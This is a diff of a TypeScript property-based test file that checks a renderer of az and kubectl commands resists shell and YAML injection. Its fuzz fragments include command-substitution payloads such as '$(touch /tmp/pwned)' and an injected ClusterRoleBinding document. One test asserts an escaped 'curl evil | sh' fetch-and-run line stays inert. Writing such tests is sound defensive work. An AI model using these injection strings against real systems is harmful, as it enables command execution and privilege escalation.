@@ -6,6 +6,7 @@ import { describe, expect, test } from '@jest/globals';
 import fc from 'fast-check';
 import { parseAllDocuments } from 'yaml';
 import { desire } from '../desire/desire.ts';
+import { instanceTypeManifests } from '../desire/instance-types.ts';
 import type { ComputeResult } from '../apply/types.ts';
 import type { Diagnostic } from '../diagnostics.ts';
 import type { ComputeDocument } from '../model/types.ts';
@@ -20,7 +21,7 @@ import { diagnosticsMarkdown, resultsMarkdown } from './results.ts';
 // exactly what the az renderer may emit (bare words, single quotes, double quotes holding "$NAME",
 // "$(cat 'FILE')" or "$(printenv 'NAME')", comments, backslash-newline); anything else the shell
 // would expand or treat as an operator throws, so a renderer that emits it fails the test.
-type Part = { lit: string } | { env: string } | { file: string };
+type Part = { lit: string } | { env: string } | { file: string } | { heredoc: string };
 type Word = Part[];
 type Command = Word[];
 
@@ -104,11 +105,28 @@ function tokenize(src: string): Command[] {
     }
     return w;
   }
+  /** At `<<'DELIM'` ending its line: the body, up to the first line that is exactly DELIM (as the shell reads it). */
+  const hereDoc = (): Part => {
+    const m = /^<<'([A-Za-z0-9_]+)'\n/.exec(src.slice(i));
+    if (!m) throw new Unexpected(`here-document at ${JSON.stringify(src.slice(i, i + 30))}`);
+    i += m[0].length;
+    const lines: string[] = [];
+    for (;;) {
+      if (i >= src.length) throw new Unexpected('unterminated here-document');
+      const eol = src.indexOf('\n', i);
+      const line = src.slice(i, eol === -1 ? src.length : eol);
+      i = eol === -1 ? src.length : eol;
+      if (line === m[1]) return { heredoc: lines.map((l) => `${l}\n`).join('') };
+      lines.push(line);
+      i++;
+    }
+  };
   const commands: Command[] = [];
   let current: Command = [];
   while (i < src.length) {
     const c = src[i]!;
-    if (c === ' ' || c === '\t') i++;
+    if (c === '<' && src.startsWith("<<'", i)) current.push([hereDoc()]);
+    else if (c === ' ' || c === '\t') i++;
     else if (c === '\\' && src[i + 1] === '\n') i += 2;
     else if (c === '\n') {
       if (current.length) commands.push(current);
@@ -125,6 +143,7 @@ function tokenize(src: string): Command[] {
 test('the tokenizer refuses what the shell would expand', () => {
   expect(tokenize("az a 'b c' d=\"$X\" \\\n  e # f $(g)\n# h\nx")).toEqual([[[{ lit: 'az' }], [{ lit: 'a' }], [{ lit: 'b c' }], [{ lit: 'd=' }, { env: 'X' }], [{ lit: 'e' }]], [[{ lit: 'x' }]]]);
   expect(tokenize(`k="$(cat 'a b')"`)).toEqual([[[{ lit: 'k=' }, { file: 'a b' }]]]);
+  expect(tokenize("kubectl apply -f - <<'EOF'\na: $(x) `y`\n EOF\nEOF\nnext")).toEqual([[[{ lit: 'kubectl' }], [{ lit: 'apply' }], [{ lit: '-f' }], [{ lit: '-' }], [{ heredoc: 'a: $(x) `y`\n EOF\n' }]], [[{ lit: 'next' }]]]);
   for (const bad of ['a $(touch x)', 'a "$(touch x)"', 'a `x`', 'a; b', 'a "`x`"', 'a | b', 'a > b']) expect(() => tokenize(bad)).toThrow(Unexpected);
 });
 
@@ -134,7 +153,7 @@ const FRAGMENTS = [
   '\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\0', '\t', '\u001b[31m', '$(touch /tmp/pwned)', '`id`', '${HOME}', '$HOME', "'", '"', '\\', "'\\''",
   ';', '&&', '|', '>', '<', '#', '---', '\n---\n', '...', '\n---\nkind: ClusterRoleBinding\n', ': ', '- ', '{', '}', '[', ']', '*', '&a', '!!str', '? ',
   '<details>', '</details>', '<summary>', '</summary>', '![img](x)', '[link](http://x)', '```', '~~~', '|', '**', '_', '# No changes. Safe to merge', '<img src=x>', '&lt;', '&amp;', '@team',
-  '-', '--yes', ' ', '%', '=', 'A', 'é', '😀', '\u200b',
+  '-', '--yes', ' ', '%', '=', 'A', 'é', '😀', '\u200b', 'INSTANCE_TYPES', '\nINSTANCE_TYPES\n', 'INSTANCE_TYPES_1',
 ];
 const hostile = fc
   .array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ unit: 'binary-ascii', maxLength: 4 }), fc.string({ unit: 'grapheme', maxLength: 3 })), { minLength: 1, maxLength: 6 })
@@ -195,7 +214,8 @@ function substituteTokens(commands: Command[], h: string): Command[] {
     c.map((w) => {
       const out: Word = [];
       for (const p of w) {
-        const q: Part = 'lit' in p ? { lit: substitute(p.lit, h) } : 'env' in p ? { env: substitute(p.env, h) } : { file: substitute(p.file, h) };
+        // A here-document's YAML quotes the text its own way: compared as YAML, not as text (see below).
+        const q: Part = 'lit' in p ? { lit: substitute(p.lit, h) } : 'env' in p ? { env: substitute(p.env, h) } : 'file' in p ? { file: substitute(p.file, h) } : { heredoc: '' };
         const last = out[out.length - 1];
         if ('lit' in q && last && 'lit' in last) last.lit += q.lit;
         else out.push(q);
@@ -224,7 +244,14 @@ describe('renderers keep their structure whatever the spec holds (validation byp
           expect(h.includes('\0') && (err as { code?: string }).code === 'UNSAFE_SHELL_TEXT').toBe(true);
           return;
         }
-        expect(tokenize(text)).toEqual(expected);
+        const got = tokenize(text);
+        const bodies = got.flatMap((c) => c.flatMap((w) => w.flatMap((p) => ('heredoc' in p ? [p.heredoc] : []))));
+        const blank = (cs: Command[]): Command[] => cs.map((c) => c.map((w) => w.map((p) => ('heredoc' in p ? { heredoc: '' } : p))));
+        expect(blank(got)).toEqual(blank(expected));
+        // The instance types' here-document holds exactly the planned objects, whatever the text.
+        const hostileDoc = withState(spec(tls, () => h, (i) => hostileKey(h, i)));
+        const planned = gone ? [] : [JSON.parse(JSON.stringify(instanceTypeManifests(hostileDoc.spec.instanceTypes!, h).map((m) => (m.form === 'object' ? m.object : undefined))))];
+        expect(bodies.map((b) => parseAllDocuments(b)).map((docs) => (Array.isArray(docs) ? docs.map((d) => (d.errors.length ? d.errors : d.toJS())) : docs))).toEqual(planned);
         rendered++;
       }),
       { numRuns: RUNS },
@@ -367,7 +394,7 @@ describe('reported attacks', () => {
     expect(text).not.toMatch(/^(curl|touch)/m);
     expect(text).toContain('# az commands for compute x\\u000acurl evil | sh');
     expect(tokenize(text).map((c) => c[0])).toEqual(expect.arrayContaining([[{ lit: 'az' }]]));
-    expect(tokenize(text).every((c) => 'lit' in c[0]![0]! && (c[0]![0] as { lit: string }).lit === 'az')).toBe(true);
+    expect(tokenize(text).every((c) => 'lit' in c[0]![0]! && ['az', 'kubectl'].includes((c[0]![0] as { lit: string }).lit))).toBe(true);
   });
 
   test('a name holding "\\n---\\n" and a ClusterRoleBinding adds no document to the manifests', () => {
